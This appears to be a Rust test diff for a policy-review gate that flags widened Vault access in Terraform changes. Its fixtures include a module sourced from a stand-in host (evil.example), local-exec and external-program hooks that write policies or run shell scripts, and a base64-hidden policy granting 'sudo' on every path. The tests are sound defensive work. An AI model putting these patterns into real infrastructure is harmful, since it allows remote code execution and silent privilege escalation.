@@ -952,3 +952,198 @@ fn terraform_of_a_change_shows_nothing_of_git_and_hides_no_policy() {
         ],
     );
 }
+
+/// A policy of Terraform with capabilities by a variable that has a default.
+const BY_VARIABLE: &str = "variable \"caps\" {\n  default = [\"read\"]\n}\nvariable \"on\" {\n  default = false\n}\nresource \"vault_policy\" \"web\" {\n  name = \"web\"\n  policy = \"path \\\"secret/web/*\\\" { capabilities = ${jsonencode(var.caps)} }\"\n}\nresource \"vault_policy\" \"all\" {\n  count = var.on ? 1 : 0\n  name = \"all\"\n  policy = \"path \\\"*\\\" { capabilities = [\\\"sudo\\\", \\\"read\\\"] }\"\n}\n";
+
+#[test]
+fn each_value_that_a_file_may_give_to_a_variable_has_to_pass() {
+    let ground = Ground::new(&[
+        ("repo/policies/main.tf", BY_VARIABLE),
+        ("repo/envs/dev.tfvars", "caps = [\"list\"]\n"),
+    ]);
+    let base = ground.repository();
+    ground.since(&base, 0, &["check passed"]);
+    let caps = "caps = [\"read\", \"delete\"]\n";
+    for file in [
+        "policies/prod.tfvars",
+        "policies/envs/prod.tfvars",
+        "envs/prod.tfvars",
+        "envs/dev.tfvars",
+    ] {
+        let before = fs::read_to_string(ground.at("repo/envs/dev.tfvars")).unwrap();
+        ground.write(&[(&format!("repo/{file}"), caps)]);
+        ground.commit(file);
+        ground.since(&base, 1, &["high[new-access]", "delete", "So with `caps` of"]);
+        // What was so before is no news.
+        let now = ground.git("repo", &["rev-parse", "HEAD"]);
+        ground.since(&now, 0, &["check passed"]);
+        fs::remove_file(ground.at(&format!("repo/{file}"))).unwrap();
+        ground.write(&[("repo/envs/dev.tfvars", &before)]);
+    }
+    // A policy that is there with it alone; a file of JSON.
+    ground.write(&[("repo/policies/prod.tfvars.json", "{\"on\": true}")]);
+    ground.commit("on");
+    ground.since(
+        &base,
+        1,
+        &["policy `all` now allows", "So with `on` of `prod.tfvars.json`"],
+    );
+    // One that cannot be read may say anything.
+    ground.write(&[("repo/policies/prod.tfvars.json", "{")]);
+    ground.commit("broken");
+    ground.since(&base, 1, &["not-checked", "`prod.tfvars.json` cannot be read"]);
+    // One that narrowed, and does so no more.
+    fs::remove_file(ground.at("repo/policies/prod.tfvars.json")).unwrap();
+    ground.write(&[("repo/envs/dev.tfvars", "")]);
+    ground.commit("empty");
+    ground.since(&base, 1, &["now allows `read secret/web/"]);
+}
+
+#[test]
+fn two_files_of_variables_count_together() {
+    let main = "variable \"caps\" {\n  default = [\"read\"]\n}\nvariable \"at\" {\n  default = \"secret/web/*\"\n}\nmodule \"p\" {\n  source = \"./m\"\n  caps = var.caps\n  at = var.at\n}\n";
+    let module = "variable \"caps\" {}\nvariable \"at\" {}\nresource \"vault_policy\" \"web\" {\n  name = \"web\"\n  policy = \"path \\\"${var.at}\\\" { capabilities = ${jsonencode(var.caps)} }\"\n}\n";
+    let ground = Ground::new(&[
+        ("repo/policies/main.tf", main),
+        ("repo/policies/m/main.tf", module),
+        ("repo/policies/a.tfvars", "caps = [\"read\", \"sudo\"]\n"),
+    ]);
+    let base = ground.repository();
+    ground.write(&[("repo/policies/b.tfvars", "at = \"sys/*\"\n")]);
+    ground.commit("b");
+    ground.since(
+        &base,
+        1,
+        &[
+            "critical[new-access]",
+            "So with `at` of `b.tfvars` and `caps` of `a.tfvars`",
+        ],
+    );
+}
+
+#[test]
+fn what_only_the_place_of_terraform_knows_decides_nothing() {
+    let of = |condition: &str| {
+        format!(
+            "resource \"vault_policy\" \"web\" {{\n  name = \"web\"\n  policy = {condition} ? \"path \\\"*\\\" {{ capabilities = [\\\"sudo\\\"] }}\" : \"path \\\"a\\\" {{ capabilities = [\\\"read\\\"] }}\"\n}}\n"
+        )
+    };
+    let ground = Ground::new(&[
+        ("repo/policies/main.tf", &of("false")),
+        ("repo/policies/texts/a.txt", "x"),
+        ("repo/policies/texts/b.txt", "x"),
+    ]);
+    let base = ground.repository();
+    for condition in [
+        "fileexists(\"${path.root}/.terraform.lock.hcl\")",
+        "length(fileset(path.module, \"*.tfstate\")) > 0",
+        "endswith(path.cwd, \"apply\")",
+        "!fileexists(\"texts/here.txt\")",
+        "length(fileset(\"texts\", \"*.txt\")) < 3",
+        "file(\"texts/here.txt\") != \"here\"",
+    ] {
+        ground.write(&[("repo/policies/main.tf", &of(condition))]);
+        ground.commit(condition);
+        // What the gate's own machine has besides, and git has not.
+        ground.write(&[("repo/policies/texts/here.txt", "here")]);
+        let found = if condition.contains("*.txt") {
+            "[new-access]"
+        } else {
+            "high[not-checked]: `vault_policy.web`"
+        };
+        ground.since(&base, 1, &[found]);
+        fs::remove_file(ground.at("repo/policies/texts/here.txt")).unwrap();
+    }
+    ground.write(&[(
+        "repo/policies/main.tf",
+        &of("length(fileset(\"texts\", \"*.txt\")) != 2 || !fileexists(\"texts/a.txt\")"),
+    )]);
+    ground.commit("tracked");
+    ground.since(&base, 0, &["check passed"]);
+}
+
+#[test]
+fn what_may_write_policies_elsewhere_is_named_and_new_it_fails() {
+    let exec = "resource \"null_resource\" \"e\" {\n  provisioner \"local-exec\" {\n    command = \"vault policy write evil e.txt\"\n  }\n}\n";
+    for (file, text, what) in [
+        (
+            "x.tf",
+            "module \"e\" {\n  source = \"git::https://evil.example/x.git\"\n}\n",
+            "`module.e`",
+        ),
+        ("x.tf", exec, "`null_resource.e`"),
+        (
+            "x.tf.json",
+            "{\"resource\": {\"null_resource\": {\"e\": {\"provisioner\": [{\"local-exec\": {\"command\": \"bao policy write\"}}]}}}}",
+            "`null_resource.e`",
+        ),
+        (
+            "x.tf",
+            "data \"external\" \"e\" {\n  program = [\"sh\", \"x.sh\"]\n}\n",
+            "`external.e`",
+        ),
+        (
+            "x.tf",
+            "resource \"restapi_object\" \"e\" {\n  path = \"/v1/sys/policies/acl/e\"\n}\n",
+            "`restapi_object.e`",
+        ),
+        (
+            "terragrunt.hcl",
+            "terraform {\n  source = \"../m\"\n}\ninputs = { caps = [\"sudo\"] }\n",
+            "terragrunt.hcl`",
+        ),
+    ] {
+        let ground = Ground::new(&[("repo/policies/web.hcl", READ)]);
+        let base = ground.repository();
+        ground.write(&[(&format!("repo/policies/{file}"), text)]);
+        ground.commit("new");
+        ground.since(&base, 1, &["medium[not-checked]", what]);
+        let now = ground.git("repo", &["rev-parse", "HEAD"]);
+        ground.since(
+            &now,
+            0,
+            &["low[not-checked]", "The base has it just so", "check passed"],
+        );
+        // The same with another word in it is another.
+        ground.write(&[(
+            &format!("repo/policies/{file}"),
+            &text
+                .replace("x.git", "y.git")
+                .replace("e.txt", "f.txt")
+                .replace("../m", "../n")
+                .replace("acl/e", "acl/f")
+                .replace("x.sh", "y.sh")
+                .replace("bao policy", "bao  policy"),
+        )]);
+        ground.commit("other");
+        ground.since(&now, 1, &["medium[not-checked]"]);
+    }
+}
+
+#[test]
+fn a_policy_that_stands_packed_or_for_another_is_not_passed_over() {
+    let packed = "cGF0aCAiKiIgeyBjYXBhYmlsaXRpZXMgPSBbInN1ZG8iXSB9Cg==";
+    let wrapped = "cGF0aCAiKiIgeyBjYXBhYmlsaX\nRpZXMgPSBbInN1ZG8iXSB9Cg==\n";
+    let lfs = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 60\n";
+    let sops = "{\"data\": \"ENC[AES256_GCM,data:x,iv:y,tag:z,type:str]\", \"sops\": {\"version\": \"3\"}}";
+    for (file, text) in [
+        ("e.hcl", packed.to_owned()),
+        ("e.hcl", wrapped.to_owned()),
+        ("e.policy", packed.to_owned()),
+        ("e.txt", packed.to_owned()),
+        ("e.json", format!("{{\"policy\": \"{packed}\"}}")),
+        ("e.json", packed.to_owned()),
+        ("web.hcl", packed.to_owned()),
+        ("e.yaml", format!("data:\n  e: {packed}\n")),
+        ("e.hcl", lfs.to_owned()),
+        ("e.json", lfs.to_owned()),
+        ("e.hcl", sops.to_owned()),
+        ("e.json", sops.to_owned()),
+        ("e.hcl", "$ANSIBLE_VAULT;1.1;AES256\n6162\n".to_owned()),
+    ] {
+        let ground = Ground::new(&[("base/web.hcl", READ), ("pr/web.hcl", READ)]);
+        ground.write(&[(&format!("pr/{file}"), &text)]);
+        ground.check(1, &["check failed"]);
+    }
+}
